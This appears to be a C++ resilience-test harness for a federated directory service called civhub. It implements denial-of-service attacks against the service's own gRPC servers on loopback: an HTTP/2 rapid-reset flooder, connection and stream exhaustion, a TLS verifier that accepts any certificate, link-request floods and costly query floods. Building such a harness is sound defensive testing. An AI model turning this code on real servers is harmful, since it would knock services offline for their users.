#include "harness/attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <grpcpp/create_channel.h>
#include <grpcpp/security/credentials.h>
#include <grpcpp/security/tls_credentials_options.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#include <functional>
#include <mutex>
#include <set>
#include <thread>
#include <vector>

#include "absl/strings/numbers.h"
#include "absl/strings/str_cat.h"
#include "absl/time/clock.h"
#include "civhub/v1/directory.grpc.pb.h"
#include "civhub/v1/federation.grpc.pb.h"
#include "crypto/certificate.h"
#include "federation/grpc/grpc_transport.h"
#include "federation/trust.h"
#include "harness/reflection_client.grpc.pb.h"
#include "harness/tcp_relay.h"
#include "node/records/validate.h"

namespace civhub::attack {
namespace {

// Raises this process's open-file limit to its hard limit: an attacker
// holds more connections than the usual soft 1,024.
void RaiseOpenFileLimit() {
  rlimit limit{};
  if (getrlimit(RLIMIT_NOFILE, &limit) == 0 &&
      limit.rlim_cur < limit.rlim_max) {
    limit.rlim_cur = limit.rlim_max;
    (void)setrlimit(RLIMIT_NOFILE, &limit);
  }
}

bool SendAll(int fd, const std::string& bytes) {
  for (size_t off = 0; off < bytes.size();) {
    ssize_t n = send(fd, bytes.data() + off, bytes.size() - off, MSG_NOSIGNAL);
    if (n <= 0) return false;
    off += static_cast<size_t>(n);
  }
  return true;
}

bool ReadAll(int fd, char* buf, size_t size) {
  for (size_t off = 0; off < size;) {
    ssize_t n = read(fd, buf + off, size - off);
    if (n <= 0) return false;
    off += static_cast<size_t>(n);
  }
  return true;
}

// The costliest Search a client may send: every record, nearest first.
v1::SearchRequest CostlySearch(int variant) {
  v1::SearchRequest request;
  request.set_page_size(100);
  switch (variant % 3) {
    case 0:
      request.mutable_near()->set_latitude(-1.29);
      request.mutable_near()->set_longitude(36.82);
      request.mutable_near()->set_radius_km(20040);
      break;
    case 1:
      request.set_text("a");
      break;
    default:
      request.set_text("e");
      request.mutable_near()->set_latitude(48.85);
      request.mutable_near()->set_longitude(2.35);
      request.mutable_near()->set_radius_km(20040);
      break;
  }
  return request;
}

// Accepts any server certificate: the attacker does not care whom it talks
// to, only that the TLS handshake completes.
class AcceptAnyVerifier
    : public grpc::experimental::ExternalCertificateVerifier {
 public:
  bool Verify(grpc::experimental::TlsCustomVerificationCheckRequest*,
              std::function<void(grpc::Status)>,
              grpc::Status* sync_status) override {
    *sync_status = grpc::Status::OK;
    return true;
  }
  void Cancel(grpc::experimental::TlsCustomVerificationCheckRequest*) override {
  }
};

// A channel to the relay at `port`, with its own connection (no subchannel
// shared with other channels); over TLS presenting `key`'s certificate when
// `key` is set.
std::shared_ptr<grpc::Channel> ChannelTo(int port,
                                         const crypto::PrivateKey* key) {
  grpc::ChannelArguments args;
  args.SetInt(GRPC_ARG_USE_LOCAL_SUBCHANNEL_POOL, 1);
  args.SetInt(GRPC_ARG_INITIAL_RECONNECT_BACKOFF_MS, 100);
  args.SetInt(GRPC_ARG_MAX_RECONNECT_BACKOFF_MS, 500);
  args.SetMaxSendMessageSize(64 << 20);
  args.SetMaxReceiveMessageSize(64 << 20);
  const std::string address = absl::StrCat("127.0.0.1:", port);
  if (key == nullptr) {
    return grpc::CreateCustomChannel(address,
                                     grpc::InsecureChannelCredentials(), args);
  }
  absl::StatusOr<federation::TlsIdentity> identity =
      federation::MakeTlsIdentity(*key, absl::Now());
  grpc::experimental::TlsChannelCredentialsOptions options;
  options.set_certificate_provider(
      std::make_shared<grpc::experimental::StaticDataCertificateProvider>(
          std::vector<grpc::experimental::IdentityKeyCertPair>{
              {identity->private_key_pem, identity->certificate_pem}}));
  options.watch_identity_key_cert_pairs();
  options.set_verify_server_certs(false);
  options.set_check_call_host(false);
  options.set_certificate_verifier(
      grpc::experimental::ExternalCertificateVerifier::Create<
          AcceptAnyVerifier>());
  args.SetSslTargetNameOverride(crypto::kHubTlsName);
  return grpc::CreateCustomChannel(
      address, grpc::experimental::TlsCredentials(options), args);
}

// The common part of the gRPC attacks: a relay from the attacker's address,
// contexts to cancel at Stop(), counts, and a completion queue driven by one
// thread for those that use the async API.
class GrpcAttack : public Attack {
 public:
  GrpcAttack(int target_port, int source)
      : relay_(0, target_port, AttackerSource(source)) {}

  std::string Summary() const override {
    std::lock_guard<std::mutex> lock(mu_);
    return absl::StrCat(what_, ": ", sent_.load(), " calls sent, ", ok_.load(),
                        " answered, ", failed_.load(), " failed",
                        last_error_.empty() ? "" : " (last: ", last_error_,
                        last_error_.empty() ? "" : ")", extra_());
  }

 protected:
  // Runs on the completion queue's thread.
  using Done = std::function<void(bool ok)>;
  void* Tag(Done done) {
    ++pending_;
    return new Done(std::move(done));
  }
  void RunQueue() {
    queue_thread_ = std::thread([this] {
      void* tag = nullptr;
      bool ok = false;
      while (cq_.Next(&tag, &ok)) {
        auto* done = static_cast<Done*>(tag);
        (*done)(ok);
        delete done;
        --pending_;
      }
    });
  }
  std::shared_ptr<grpc::ClientContext> NewContext() {
    auto ctx = std::make_shared<grpc::ClientContext>();
    std::lock_guard<std::mutex> lock(mu_);
    contexts_.insert(ctx);
    if (halted_) ctx->TryCancel();  // Stop() swept the others already.
    return ctx;
  }
  void Forget(const std::shared_ptr<grpc::ClientContext>& ctx) {
    std::lock_guard<std::mutex> lock(mu_);
    contexts_.erase(ctx);
  }
  void Count(const grpc::Status& status) {
    if (status.ok()) {
      ++ok_;
      return;
    }
    ++failed_;
    std::lock_guard<std::mutex> lock(mu_);
    last_error_ =
        absl::StrCat(status.error_code(), " ", status.error_message());
  }
  // Halts, cancels every call, waits for the queue's operations and threads.
  void StopCalls() {
    Halt();
    for (;;) {
      {
        std::lock_guard<std::mutex> lock(mu_);
        for (const auto& ctx : contexts_) ctx->TryCancel();
      }
      if (pending_ == 0) break;
      absl::SleepFor(absl::Milliseconds(10));  // Cancelled ops complete.
    }
    for (std::thread& t : threads_) t.join();
    threads_.clear();
    cq_.Shutdown();
    if (queue_thread_.joinable()) queue_thread_.join();
    std::lock_guard<std::mutex> lock(mu_);
    contexts_.clear();
  }

  std::string what_;
  std::function<std::string()> extra_ = [] { return std::string(); };
  testing::TcpRelay relay_;
  grpc::CompletionQueue cq_;
  std::thread queue_thread_;
  std::vector<std::thread> threads_;
  std::atomic<int64_t> pending_{0}, sent_{0}, ok_{0}, failed_{0};
  mutable std::mutex mu_;
  std::set<std::shared_ptr<grpc::ClientContext>> contexts_;  // Guarded by mu_.
  std::string last_error_;                                   // Guarded by mu_.
};

class IdleConnectionsAttack : public Attack {
 public:
  IdleConnectionsAttack(int port, int count, int sources)
      : port_(port), count_(count), sources_(std::max(1, sources)) {}
  ~IdleConnectionsAttack() override { Stop(); }

  void Start() override {
    RaiseOpenFileLimit();
    for (int i = 0; i < count_ && !halted_; ++i) {
      int fd = ConnectFrom(AttackerSource(i % sources_), port_);
      if (fd < 0) {
        ++refused_;
        continue;
      }
      fds_.push_back(fd);
    }
  }
  void Stop() override {
    Halt();
    for (int fd : fds_) close(fd);
    fds_.clear();
  }
  std::string Summary() const override {
    return absl::StrCat("idle connections: ", fds_.size(), " of ", count_,
                        " held (", refused_, " refused) from ", sources_,
                        " address(es)");
  }

 private:
  const int port_, count_, sources_;
  std::vector<int> fds_;
  int refused_ = 0;
};

// HTTP/2 framing (RFC 9113) and HPACK literals (RFC 7541), just enough.
std::string Frame(uint8_t type, uint8_t flags, uint32_t stream,
                  const std::string& payload) {
  std::string f;
  const uint32_t n = static_cast<uint32_t>(payload.size());
  f.push_back(static_cast<char>(n >> 16));
  f.push_back(static_cast<char>(n >> 8));
  f.push_back(static_cast<char>(n));
  f.push_back(static_cast<char>(type));
  f.push_back(static_cast<char>(flags));
  for (int shift = 24; shift >= 0; shift -= 8)
    f.push_back(
        static_cast<char>((stream >> shift) & (shift == 24 ? 0x7f : 0xff)));
  return f + payload;
}

void HpackInt(std::string* out, uint8_t first, int prefix_bits, size_t v) {
  const size_t max = (1u << prefix_bits) - 1;
  if (v < max) {
    out->push_back(static_cast<char>(first | v));
    return;
  }
  out->push_back(static_cast<char>(first | max));
  v -= max;
  while (v >= 128) {
    out->push_back(static_cast<char>((v % 128) + 128));
    v /= 128;
  }
  out->push_back(static_cast<char>(v));
}

// A literal header field without indexing, new name, no Huffman coding.
void HpackLiteral(std::string* out, const std::string& name,
                  const std::string& value) {
  out->push_back(0x00);
  HpackInt(out, 0, 7, name.size());
  out->append(name);
  HpackInt(out, 0, 7, value.size());
  out->append(value);
}

constexpr uint8_t kData = 0, kHeaders = 1, kRstStream = 3, kSettings = 4,
                  kPing = 6, kGoaway = 7, kWindowUpdate = 8;
constexpr uint8_t kEndStream = 1, kAck = 1, kEndHeaders = 4;

class RapidResetAttack : public Attack {
 public:
  RapidResetAttack(int port, int connections, double streams_per_second,
                   int64_t max_streams)
      : port_(port),
        connections_(std::max(1, connections)),
        rate_(streams_per_second),
        max_streams_(max_streams) {
    HpackLiteral(&headers_, ":method", "POST");
    HpackLiteral(&headers_, ":scheme", "http");
    HpackLiteral(&headers_, ":path", "/civhub.v1.Directory/Search");
    HpackLiteral(&headers_, ":authority", absl::StrCat("127.0.0.1:", port));
    HpackLiteral(&headers_, "content-type", "application/grpc");
    HpackLiteral(&headers_, "te", "trailers");
    const std::string message = CostlySearch(0).SerializeAsString();
    message_.push_back(0);  // Not compressed.
    for (int shift = 24; shift >= 0; shift -= 8)
      message_.push_back(static_cast<char>(message.size() >> shift));
    message_ += message;
  }
  ~RapidResetAttack() override { Stop(); }

  void Start() override {
    start_ = absl::Now();
    for (int i = 0; i < connections_; ++i) {
      fds_.emplace_back(std::make_unique<std::atomic<int>>(-1));
    }
    for (int i = 0; i < connections_; ++i) {
      threads_.emplace_back([this, i] { Run(i); });
    }
    // Under way once the first streams went out.
    const absl::Time give_up = absl::Now() + absl::Seconds(5);
    while (streams_ == 0 && absl::Now() < give_up && !halted_)
      absl::SleepFor(absl::Milliseconds(5));
  }
  void Stop() override {
    Halt();
    for (auto& fd : fds_) {
      int f = fd->load();
      if (f >= 0) shutdown(f, SHUT_RDWR);
    }
    for (std::thread& t : threads_) t.join();
    threads_.clear();
    if (end_ == absl::InfinitePast()) end_ = absl::Now();
  }
  std::string Summary() const override {
    const absl::Time end = end_ == absl::InfinitePast() ? absl::Now() : end_;
    const double seconds = absl::ToDoubleSeconds(end - start_);
    return absl::StrCat(
        "rapid reset: ", streams_.load(), " streams (",
        static_cast<int64_t>(seconds > 0 ? streams_ / seconds : 0), "/s, ",
        with_data_.load(), " with a query) on ", connects_.load(),
        " connections, ", goaways_.load(), " GOAWAY, ",
        connect_failures_.load(), " failed connects");
  }

 private:
  struct Connection {
    int fd = -1;
    std::mutex write_mu;
    std::atomic<bool> closed{false};
    std::atomic<int64_t> window{65535};  // Ours to send DATA into.
  };

  bool Write(Connection* c, const std::string& bytes) {
    std::lock_guard<std::mutex> lock(c->write_mu);
    return SendAll(c->fd, bytes);
  }

  // Reads and discards what the server sends; answers SETTINGS and PING.
  void Read(Connection* c) {
    char header[9];
    std::string payload;
    while (ReadAll(c->fd, header, sizeof(header))) {
      const size_t n = (static_cast<uint8_t>(header[0]) << 16) |
                       (static_cast<uint8_t>(header[1]) << 8) |
                       static_cast<uint8_t>(header[2]);
      const uint8_t type = static_cast<uint8_t>(header[3]);
      const uint8_t flags = static_cast<uint8_t>(header[4]);
      payload.resize(n);
      if (n > 0 && !ReadAll(c->fd, payload.data(), n)) break;
      const uint32_t stream = ((static_cast<uint8_t>(header[5]) & 0x7f) << 24) |
                              (static_cast<uint8_t>(header[6]) << 16) |
                              (static_cast<uint8_t>(header[7]) << 8) |
                              static_cast<uint8_t>(header[8]);
      if (type == kSettings && !(flags & kAck)) {
        Write(c, Frame(kSettings, kAck, 0, ""));
      } else if (type == kPing && !(flags & kAck)) {
        Write(c, Frame(kPing, kAck, 0, payload));
      } else if (type == kWindowUpdate && stream == 0 && n == 4) {
        c->window += ((static_cast<uint8_t>(payload[0]) & 0x7f) << 24) |
                     (static_cast<uint8_t>(payload[1]) << 16) |
                     (static_cast<uint8_t>(payload[2]) << 8) |
                     static_cast<uint8_t>(payload[3]);
      } else if (type == kGoaway) {
        ++goaways_;
        break;
      }
    }
    c->closed = true;
  }

  void Run(int index) {
    const std::string rst_payload("\0\0\0\x08", 4);  // CANCEL
    while (!halted_) {
      Connection c;
      c.fd = ConnectFrom(AttackerSource(0), port_);
      if (c.fd < 0) {
        ++connect_failures_;
        absl::SleepFor(absl::Milliseconds(50));
        continue;
      }
      fds_[index]->store(c.fd);
      if (halted_) shutdown(c.fd, SHUT_RDWR);
      ++connects_;
      std::string hello = "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";
      hello += Frame(kSettings, 0, 0, "");
      hello += Frame(kWindowUpdate, 0, 0, std::string("\x7f\xff\x00\x00", 4));
      std::thread reader;
      if (Write(&c, hello)) reader = std::thread([this, &c] { Read(&c); });
      uint32_t id = 1;
      while (reader.joinable() && !halted_ && !c.closed && id < 0x7fff0000) {
        std::string batch;
        for (int k = 0; k < 16; ++k, id += 2) {
          batch += Frame(kHeaders, kEndHeaders, id, headers_);
          if (c.window >= static_cast<int64_t>(message_.size())) {
            c.window -= static_cast<int64_t>(message_.size());
            batch += Frame(kData, kEndStream, id, message_);
            ++with_data_;
          }
          batch += Frame(kRstStream, 0, id, rst_payload);
        }
        if (!Write(&c, batch)) break;
        if ((streams_ += 16) >= max_streams_ && max_streams_ > 0) Halt();
        if (rate_ > 0) {
          const absl::Time due = start_ + absl::Seconds(streams_ / rate_);
          const absl::Time now = absl::Now();
          if (due > now) absl::SleepFor(due - now);
        }
      }
      shutdown(c.fd, SHUT_RDWR);
      if (reader.joinable()) reader.join();
      fds_[index]->store(-1);
      close(c.fd);
    }
  }

  const int port_, connections_;
  const double rate_;
  const int64_t max_streams_;
  std::string headers_, message_;
  absl::Time start_ = absl::Now(), end_ = absl::InfinitePast();
  std::vector<std::unique_ptr<std::atomic<int>>> fds_;
  std::vector<std::thread> threads_;
  std::atomic<int64_t> streams_{0}, with_data_{0}, connects_{0}, goaways_{0},
      connect_failures_{0};
};

class SearchesInFlightAttack : public GrpcAttack {
 public:
  SearchesInFlightAttack(const Target& target, int calls)
      : GrpcAttack(PortOf(target.directory), 0), calls_(calls) {
    what_ = absl::StrCat(calls, " Searches in flight on one connection");
  }
  ~SearchesInFlightAttack() override { Stop(); }

  void Start() override {
    stub_ = v1::Directory::NewStub(ChannelTo(relay_.port(), nullptr));
    RunQueue();
    for (int i = 0; i < calls_; ++i) Issue(i);
  }
  void Stop() override { StopCalls(); }

 private:
  struct Call {
    std::shared_ptr<grpc::ClientContext> ctx;
    v1::SearchResponse response;
    grpc::Status status;
    std::unique_ptr<grpc::ClientAsyncResponseReader<v1::SearchResponse>> rpc;
  };
  void Issue(int i) {
    if (halted_) return;
    auto call = std::make_shared<Call>();
    call->ctx = NewContext();
    call->rpc = stub_->AsyncSearch(call->ctx.get(), CostlySearch(i), &cq_);
    ++sent_;
    call->rpc->Finish(&call->response, &call->status,
                      Tag([this, call, i](bool) {
                        Count(call->status);
                        Forget(call->ctx);
                        Issue(i + 1);
                      }));
  }

  const int calls_;
  std::unique_ptr<v1::Directory::Stub> stub_;
};

class ReflectionAttack : public GrpcAttack {
 public:
  ReflectionAttack(const Target& target, int streams)
      : GrpcAttack(PortOf(target.directory), 0), streams_(streams) {
    what_ = absl::StrCat(streams, " reflection streams left idle");
    extra_ = [this] { return absl::StrCat(", ", idle_.load(), " idle"); };
  }
  ~ReflectionAttack() override { Stop(); }

  void Start() override {
    stub_ = grpc::reflection::v1alpha::ServerReflection::NewStub(
        ChannelTo(relay_.port(), nullptr));
    RunQueue();
    for (int i = 0; i < streams_ && !halted_; ++i) Open();
    const absl::Time give_up = absl::Now() + absl::Seconds(10);
    while (idle_ + failed_ < streams_ && absl::Now() < give_up && !halted_)
      absl::SleepFor(absl::Milliseconds(10));
  }
  void Stop() override { StopCalls(); }

 private:
  using Stream = grpc::ClientAsyncReaderWriter<
      grpc::reflection::v1alpha::ServerReflectionRequest,
      grpc::reflection::v1alpha::ServerReflectionResponse>;
  struct State {
    std::shared_ptr<grpc::ClientContext> ctx;
    std::unique_ptr<Stream> stream;
    grpc::reflection::v1alpha::ServerReflectionRequest request;
    grpc::reflection::v1alpha::ServerReflectionResponse response;
    grpc::Status status;
  };
  void Fail(std::shared_ptr<State> s) {
    s->stream->Finish(&s->status, Tag([this, s](bool) {
      Count(s->status.ok() ? grpc::Status(grpc::StatusCode::UNKNOWN, "closed")
                           : s->status);
      Forget(s->ctx);
    }));
  }
  void Open() {
    auto s = std::make_shared<State>();
    s->ctx = NewContext();
    s->request.set_list_services("*");
    ++sent_;
    // Prepared, then started: the start's completion uses s->stream.
    s->stream = stub_->PrepareAsyncServerReflectionInfo(s->ctx.get(), &cq_);
    s->stream->StartCall(Tag([this, s](bool ok) {
      if (!ok) return Fail(s);
      s->stream->Write(s->request, Tag([this, s](bool ok) {
                         if (!ok) return Fail(s);
                         s->stream->Read(&s->response, Tag([this, s](bool ok) {
                           if (!ok) return Fail(s);
                           ++idle_;
                           // Another read that the server never answers: idle.
                           s->stream->Read(&s->response, Tag([this, s](bool) {
                             --idle_;
                             Fail(s);
                           }));
                         }));
                       }));
    }));
  }

  const int streams_;
  std::atomic<int> idle_{0};
  std::unique_ptr<grpc::reflection::v1alpha::ServerReflection::Stub> stub_;
};

class WatchAttack : public GrpcAttack {
 public:
  WatchAttack(const Target& target, int streams, bool read_to_caught_up)
      : GrpcAttack(PortOf(target.directory), 0),
        streams_(streams),
        read_(read_to_caught_up) {
    what_ = absl::StrCat(streams, " Watch streams ",
                         read_ ? "read to caught_up, then idle" : "never read");
    extra_ = [this] {
      return absl::StrCat(", ", open_.load(), " open, ", caught_up_.load(),
                          " caught up");
    };
  }
  ~WatchAttack() override { Stop(); }

  void Start() override {
    stub_ = v1::Directory::NewStub(ChannelTo(relay_.port(), nullptr));
    RunQueue();
    for (int i = 0; i < streams_ && !halted_; ++i) Open();
    const absl::Time give_up = absl::Now() + absl::Seconds(10);
    while ((read_ ? caught_up_.load() : open_.load()) + failed_ < streams_ &&
           absl::Now() < give_up && !halted_)
      absl::SleepFor(absl::Milliseconds(10));
  }
  void Stop() override {
    Halt();
    // A stream never read has no operation pending that a cancel ends:
    // finish those here.
    {
      std::lock_guard<std::mutex> lock(mu_);
      for (const auto& ctx : contexts_) ctx->TryCancel();
    }
    for (auto& s : unread_) Finish(s);
    unread_.clear();
    StopCalls();
  }

 private:
  struct State {
    std::shared_ptr<grpc::ClientContext> ctx;
    std::unique_ptr<grpc::ClientAsyncReader<v1::WatchResponse>> stream;
    v1::WatchResponse response;
    grpc::Status status;
    std::atomic<bool> finishing{false};
  };
  void Finish(std::shared_ptr<State> s) {
    if (s->finishing.exchange(true)) return;  // Failed start, then Stop().
    s->stream->Finish(&s->status, Tag([this, s](bool) {
      if (!s->status.ok()) Count(s->status);
      Forget(s->ctx);
    }));
  }
  void ReadOn(std::shared_ptr<State> s) {
    s->stream->Read(&s->response, Tag([this, s](bool ok) {
      if (!ok) {
        --open_;
        return Finish(s);
      }
      if (s->response.caught_up()) ++caught_up_;
      ReadOn(s);  // After caught_up the server sends nothing: a read waits.
    }));
  }
  void Open() {
    auto s = std::make_shared<State>();
    s->ctx = NewContext();
    ++sent_;
    // Prepared, then started: the start's completion uses s->stream.
    s->stream =
        stub_->PrepareAsyncWatch(s->ctx.get(), v1::WatchRequest(), &cq_);
    s->stream->StartCall(Tag([this, s](bool ok) {
      if (!ok) return Finish(s);
      ++open_;
      if (read_) ReadOn(s);
    }));
    if (!read_) unread_.push_back(s);
  }

  const int streams_;
  const bool read_;
  std::atomic<int> open_{0}, caught_up_{0};
  std::vector<std::shared_ptr<State>> unread_;
  std::unique_ptr<v1::Directory::Stub> stub_;
};

class SyncLoopAttack : public GrpcAttack {
 public:
  explicit SyncLoopAttack(const Target& target)
      : GrpcAttack(PortOf(target.federation), 0) {
    what_ = "Sync in a loop from an unlinked key";
  }
  ~SyncLoopAttack() override { Stop(); }

  void Start() override {
    key_ =
        std::make_unique<crypto::PrivateKey>(*crypto::PrivateKey::Generate());
    stub_ = v1::Federation::NewStub(ChannelTo(relay_.port(), key_.get()));
    threads_.emplace_back([this] {
      while (!halted_) {
        auto ctx = NewContext();
        ctx->set_deadline(std::chrono::system_clock::now() +
                          std::chrono::seconds(5));
        v1::SyncResponse response;
        ++sent_;
        Count(stub_->Sync(ctx.get(), v1::SyncRequest(), &response));
        Forget(ctx);
      }
    });
    const absl::Time give_up = absl::Now() + absl::Seconds(5);
    while (ok_ + failed_ == 0 && absl::Now() < give_up)
      absl::SleepFor(absl::Milliseconds(5));
  }
  void Stop() override { StopCalls(); }

 private:
  std::unique_ptr<crypto::PrivateKey> key_;
  std::unique_ptr<v1::Federation::Stub> stub_;
};

class BigLinkBodiesAttack : public GrpcAttack {
 public:
  BigLinkBodiesAttack(const Target& target, int calls, size_t bytes)
      : GrpcAttack(PortOf(target.federation), 0), calls_(calls), bytes_(bytes) {
    what_ = absl::StrCat(calls, " RequestLink bodies of ", bytes >> 20, " MiB");
  }
  ~BigLinkBodiesAttack() override { Stop(); }

  void Start() override {
    key_ =
        std::make_unique<crypto::PrivateKey>(*crypto::PrivateKey::Generate());
    stub_ = v1::Federation::NewStub(ChannelTo(relay_.port(), key_.get()));
    for (int i = 0; i < calls_; ++i) {
      threads_.emplace_back([this, i] {
        v1::LinkRequest request;
        request.set_body(std::string(bytes_, static_cast<char>('a' + i % 26)));
        request.set_signature(std::string(64, 's'));
        auto ctx = NewContext();
        ctx->set_deadline(std::chrono::system_clock::now() +
                          std::chrono::seconds(30));
        v1::LinkResponse response;
        ++sent_;
        Count(stub_->RequestLink(ctx.get(), request, &response));
        Forget(ctx);
      });
    }
    // Under way once every body is sent or answered.
    const absl::Time give_up = absl::Now() + absl::Seconds(30);
    while (ok_ + failed_ < calls_ && absl::Now() < give_up)
      absl::SleepFor(absl::Milliseconds(10));
  }
  void Stop() override { StopCalls(); }

 private:
  const int calls_;
  const size_t bytes_;
  std::unique_ptr<crypto::PrivateKey> key_;
  std::unique_ptr<v1::Federation::Stub> stub_;
};

class LinkFloodAttack : public Attack {
 public:
  LinkFloodAttack(const Target& target, int keys, int sources)
      : target_(target), keys_(keys), sources_(std::max(1, sources)) {
    for (int i = 0; i < sources_; ++i) {
      relays_.push_back(std::make_unique<testing::TcpRelay>(
          0, PortOf(target.federation), AttackerSource(i)));
    }
  }
  ~LinkFloodAttack() override { Stop(); }

  void Start() override {
    std::atomic<int> next{0};
    std::vector<std::thread> threads;
    for (int t = 0; t < 4; ++t) {
      threads.emplace_back([this, &next] {
        for (int i = next++; i < keys_ && !halted_; i = next++) Send(i);
      });
    }
    for (std::thread& t : threads) t.join();
  }
  void Stop() override { Halt(); }
  std::string Summary() const override {
    std::lock_guard<std::mutex> lock(mu_);
    return absl::StrCat("link requests from ", keys_, " fresh keys over ",
                        sources_, " addresses: ", pending_.load(), " pending, ",
                        refused_.load(), " refused, ", other_.load(), " other",
                        last_error_.empty() ? "" : " (last refusal: ",
                        last_error_, last_error_.empty() ? "" : ")");
  }

 private:
  void Send(int i) {
    absl::StatusOr<crypto::PrivateKey> key = crypto::PrivateKey::Generate();
    if (!key.ok()) return;
    v1::LinkRequestBody body;
    body.set_from(key->public_key().bytes());
    body.set_to(target_.hub_key);
    body.set_link_id(std::string(node::kLinkIdBytes, static_cast<char>(i)));
    body.mutable_requested_at()->set_seconds(absl::ToUnixSeconds(absl::Now()));
    body.mutable_profile()->set_name(absl::StrCat("Flooder ", i));
    body.set_link_signature(*key->Sign(
        crypto::SigningDomain::kLink,
        federation::LinkStatement(body.link_id(), body.from(), body.to())));
    v1::LinkRequest request;
    request.set_body(body.SerializeAsString());
    request.set_signature(
        *key->Sign(crypto::SigningDomain::kLinkRequest, request.body()));
    auto stub = v1::Federation::NewStub(
        ChannelTo(relays_[i % sources_]->port(), &*key));
    grpc::ClientContext ctx;
    ctx.set_deadline(std::chrono::system_clock::now() +
                     std::chrono::seconds(5));
    v1::LinkResponse response;
    grpc::Status status = stub->RequestLink(&ctx, request, &response);
    if (status.ok() && response.state() == v1::LinkResponse::PENDING) {
      ++pending_;
    } else if (status.error_code() == grpc::StatusCode::RESOURCE_EXHAUSTED) {
      ++refused_;
      std::lock_guard<std::mutex> lock(mu_);
      last_error_ = status.error_message();
    } else {
      ++other_;
      std::lock_guard<std::mutex> lock(mu_);
      last_error_ =
          absl::StrCat(status.error_code(), " ", status.error_message());
    }
  }

  const Target target_;
  const int keys_, sources_;
  std::vector<std::unique_ptr<testing::TcpRelay>> relays_;
  std::atomic<int> pending_{0}, refused_{0}, other_{0};
  mutable std::mutex mu_;
  std::string last_error_;  // Guarded by mu_.
};

class CostlyQueriesAttack : public GrpcAttack {
 public:
  CostlyQueriesAttack(const Target& target, int clients)
      : GrpcAttack(PortOf(target.directory), 0), clients_(clients) {
    what_ = absl::StrCat(clients, " clients sending the costliest Searches");
  }
  ~CostlyQueriesAttack() override { Stop(); }

  void Start() override {
    for (int c = 0; c < clients_; ++c) {
      threads_.emplace_back([this, c] {
        auto stub = v1::Directory::NewStub(ChannelTo(relay_.port(), nullptr));
        for (int i = c; !halted_; ++i) {
          auto ctx = NewContext();
          ctx->set_deadline(std::chrono::system_clock::now() +
                            std::chrono::seconds(10));
          v1::SearchResponse response;
          ++sent_;
          Count(stub->Search(ctx.get(), CostlySearch(i), &response));
          Forget(ctx);
        }
      });
    }
    const absl::Time give_up = absl::Now() + absl::Seconds(5);
    while (ok_ + failed_ < clients_ && absl::Now() < give_up)
      absl::SleepFor(absl::Milliseconds(5));
  }
  void Stop() override { StopCalls(); }

 private:
  const int clients_;
};

}  // namespace

std::string AttackerSource(int n) { return absl::StrCat("127.0.0.", 2 + n); }

int PortOf(const std::string& address) {
  int port = 0;
  const size_t colon = address.rfind(':');
  if (colon == std::string::npos ||
      !absl::SimpleAtoi(address.substr(colon + 1), &port))
    return 0;
  return port;
}

int ConnectFrom(const std::string& source, int port) {
  int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) return -1;
  if (!source.empty()) {
    sockaddr_in from{};
    from.sin_family = AF_INET;
    inet_pton(AF_INET, source.c_str(), &from.sin_addr);
    if (bind(fd, reinterpret_cast<sockaddr*>(&from), sizeof(from)) != 0) {
      close(fd);
      return -1;
    }
  }
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(static_cast<uint16_t>(port));
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  // Non-blocking, so a full accept backlog costs a second, not minutes of
  // SYN retries.
  fcntl(fd, F_SETFL, O_NONBLOCK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof(to)) != 0) {
    if (errno != EINPROGRESS) {
      close(fd);
      return -1;
    }
    pollfd p{fd, POLLOUT, 0};
    int error = 0;
    socklen_t len = sizeof(error);
    if (poll(&p, 1, 1000) != 1 ||
        getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &len) != 0 || error != 0) {
      close(fd);
      errno = error != 0 ? error : ETIMEDOUT;
      return -1;
    }
  }
  fcntl(fd, F_SETFL, 0);
  return fd;
}

std::unique_ptr<Attack> IdleConnections(int port, int count, int sources) {
  return std::make_unique<IdleConnectionsAttack>(port, count, sources);
}
std::unique_ptr<Attack> RapidReset(int port, int connections,
                                   double streams_per_second,
                                   int64_t max_streams) {
  return std::make_unique<RapidResetAttack>(port, connections,
                                            streams_per_second, max_streams);
}
std::unique_ptr<Attack> SearchesInFlight(const Target& target, int calls) {
  return std::make_unique<SearchesInFlightAttack>(target, calls);
}
std::unique_ptr<Attack> IdleReflectionStreams(const Target& target,
                                              int streams) {
  return std::make_unique<ReflectionAttack>(target, streams);
}
std::unique_ptr<Attack> StalledWatches(const Target& target, int streams,
                                       bool read_to_caught_up) {
  return std::make_unique<WatchAttack>(target, streams, read_to_caught_up);
}
std::unique_ptr<Attack> SyncLoop(const Target& target) {
  return std::make_unique<SyncLoopAttack>(target);
}
std::unique_ptr<Attack> BigLinkBodies(const Target& target, int calls,
                                      size_t bytes) {
  return std::make_unique<BigLinkBodiesAttack>(target, calls, bytes);
}
std::unique_ptr<Attack> LinkFlood(const Target& target, int keys, int sources) {
  return std::make_unique<LinkFloodAttack>(target, keys, sources);
}
std::unique_ptr<Attack> CostlyQueries(const Target& target, int clients) {
  return std::make_unique<CostlyQueriesAttack>(target, clients);
}

}  // namespace civhub::attack
